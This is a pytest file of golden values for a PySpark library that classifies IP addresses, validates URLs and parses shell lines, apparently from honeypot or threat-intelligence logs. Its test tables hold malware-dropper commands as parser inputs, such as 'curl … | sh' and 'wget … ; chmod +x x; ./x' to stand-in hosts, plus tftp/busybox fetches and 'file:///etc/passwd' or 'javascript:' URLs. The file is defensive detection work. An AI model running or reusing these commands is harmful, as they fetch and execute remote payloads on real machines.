"""Addresses, URLs, text and shell lines: golden values."""

import ipaddress
import uuid

import pytest
from pyspark.sql import functions as F

from siltstream.functions import net, shell, text, urls

INTERNAL = "127.0.0.1 172.20.0.1 172.29.77.1 10.1.2.3 192.168.1.5 100.64.0.9 169.254.169.254 ::1 fd00::1 ::ffff:10.0.0.1".split()
OUTSIDE = ["80.66.76.10", "203.0.113.7", "2606:4700::1", None, "", "not an address"]


def column(spark, values, f, kind="string"):
    df = spark.createDataFrame([(i, v) for i, v in enumerate(values)], f"i int, x {kind}")
    return [r.y for r in df.select("i", f(F.col("x")).alias("y")).orderBy("i").collect()]


def test_internal(spark):
    assert column(spark, INTERNAL + OUTSIDE, net.is_internal) == [True] * len(INTERNAL) + [False] * len(OUTSIDE)
    assert column(spark, ["80.66.76.10"], lambda c: net.is_internal(c, net.parse_networks("80.66.0.0/16"))) == [True]
    with pytest.raises(ValueError, match="nonsense"):
        net.parse_networks("10.0.0.0/8, nonsense")


def test_canonical(spark):
    values = INTERNAL + OUTSIDE + ["1:0:0:2:0:0:0:3", "ABCD::0", "::", "1::2::3", "fe80::1%eth0", "01.2.3.4", "999.1.1.1", "12345::1", "1:2:3:4:5:6:7", "::ffff:8.8.8.8", " 8.8.8.8 "]

    def want(x):
        try:
            return str(ipaddress.ip_address(x.strip())) if x and "%" not in x else None
        except ValueError:
            return None

    assert column(spark, values, net.canonical_ip) == [want(v) for v in values]
    assert column(spark, ["::ffff:8.8.8.8", "9.9.9.9"], net.normalise_ip) == ["8.8.8.8", "9.9.9.9"]
    assert column(spark, ["8.8.8.8", "198.51.100.1", "224.0.0.1", "2606:4700::1", "ff02::1", None], net.is_public) == [True, False, False, True, False, False]


def test_networks(spark):
    df = spark.createDataFrame([("1.2.3.4",), ("1.2.9.9",), ("2606:4700::1",), ("9.9.9.9",), (None,)], "ip string")
    nets = net.network_table(spark, ["1.2.0.0/16", "1.2.3.0/24", "2606:4700::/32"])
    assert {r.ip for r in net.in_networks(df, "ip", nets).collect()} == {"1.2.3.4", "1.2.9.9", "2606:4700::1"}
    assert {r.ip for r in net.in_networks(df, "ip", nets, "left_anti").collect()} == {"9.9.9.9", None}
    best = {r.ip: r.network for r in net.longest_prefix(df, "ip", nets, ["network"]).collect()}
    assert best == {"1.2.3.4": "1.2.3.0/24", "1.2.9.9": "1.2.0.0/16", "2606:4700::1": "2606:4700::/32", "9.9.9.9": None, None: None}


COMMANDS = {
    "wget http://1.2.3.4/x.sh": "wget <url>", "WGET  HTTP://evil.example/Bins.SH": "wget <url>", "ping 8.8.8.8 -c 4": "ping <ip> -c <n>",
    "echo deadbeefcafebabe1234": "echo <hex>", "echo aB3dE5gH7jK9mN": "echo <rand>", "  cd   /tmp  ": "cd /tmp", "sleep 30": "sleep <n>",
    "cat /etc/ssh/sshd_configuration": "cat /etc/ssh/sshd_configuration",
}


def test_text(spark):
    assert column(spark, list(COMMANDS), text.normalise_command) == list(COMMANDS.values())
    long = "a" * 3000 + "z" * 3000
    assert column(spark, [long, "short"], text.bound_command) == [long[:1024] + " " + long[-1024:], "short"]
    assert column(spark, ["a\x07b", "x‮y", None, "plain"], text.printable) == ["a\\x07b", "x\\u202ey", "", "plain"]
    assert column(spark, ["=1+1", "@x", "ok", None], text.csv_cell) == ["'=1+1", "'@x", "ok", ""]
    pattern = "[ipv4-addr:value = '1.2.3.4']"
    assert column(spark, [pattern], text.stable_id) == [str(uuid.uuid5(text.NAMESPACE, pattern))]
    assert column(spark, ["it's\\"], lambda c: text.stix_pattern(F.lit("url"), c)) == ["[url:value = 'it\\'s\\\\']"]
    assert column(spark, ["T1059.004"], text.technique_url) == ["https://attack.mitre.org/techniques/T1059/004/"]
    assert column(spark, ["a,,b"], text.split_tactics) == [["a", "b"]]


GOOD = ["http://evil.example/x.sh", "https://203.0.114.9:8443/a?b=c", "ftp://files.example/payload", "http://8.8.8.8/x"]
BAD = ["http://localhost/x", "http://127.0.0.1/", "http://192.168.1.5/x", "http://box.internal/", "http://a b.example/", "http://a.example/‮", "javascript:alert(1)", "file:///etc/passwd", "http://", "http://a.example:99999/", "http://a.example/" + "x" * 2100, "http://u@a.example/", "http://2130706433/", "http://10.0.0.1.nip.io/", None]


def test_urls(spark):
    assert column(spark, GOOD + BAD, urls.valid_url) == [True] * len(GOOD) + [False] * len(BAD)
    assert column(spark, ["http://U:p@Evil.Example:8080/a/b?q#f", "http://www.google.com/x", "gopher://x.example/", "http://x.example:99999/"], urls.clean_url) == ["http://evil.example:8080/a/b", None, None, None]
    assert column(spark, ["raw.githubusercontent.com", "github.com.evil.example"], urls.is_shared_hosting) == [True, False]


FETCHES = {
    "cd /tmp && wget http://1.2.3.4/x.sh -O x; chmod +x x; ./x": ["http://1.2.3.4/x.sh"], "wget -O out.sh http://a.example/z": ["http://a.example/z"],
    "sh -c 'wget http://a.example/p.sh'": ["http://a.example/p.sh"], "curl -s evil.example/a | sh": ["http://evil.example/a"],
    "curl -sL 5.6.7.8:8080/bins.sh | bash": ["http://5.6.7.8:8080/bins.sh"], "tftp -g -r bins.sh 5.6.7.8": ["tftp://5.6.7.8/bins.sh"],
    "tftp 5.6.7.8 -c get bins.sh": ["tftp://5.6.7.8/bins.sh"], "busybox ftpget -v -u a -p b 9.9.9.9 local remote": ["ftp://9.9.9.9/remote"],
    "git clone https://github.com/a/b.git": ["https://github.com/a/b.git"], "ls; wget http://a.example/z; wget http://a.example/z": ["http://a.example/z"],
    "echo wget http://x.example/a": [], "wget http://$HOST/x": [], "wget x.sh": [], "git pull http://x.example/a": [], "x" * 30_000: [],
    "wget 'http://a.example/x.sh'.": ["http://a.example/x.sh"],
}


def test_shell():
    for line, found in FETCHES.items():
        assert [u for u, _ in shell.fetches(line)] == found, line
    for line, plain in {"sudo wget http://x": "wget http://x", "sudo -n nohup /usr/bin/wget x": "wget x", "LANG=C FOO=1 uname -a": "uname -a", "/bin/busybox ECCHI": "busybox ECCHI", "/tmp/x -a": "/tmp/x -a"}.items():
        assert shell.strip_noise(line) == plain
    assert "uname -a" in shell.segments("sh -c \"bash -c 'uname -a'\"") and "uname -a" in shell.segments('echo "x; uname -a')
    assert shell.split_line("ls 2>&1 && echo 'a;b'") == ["ls 2>&1", "echo 'a;b'"]
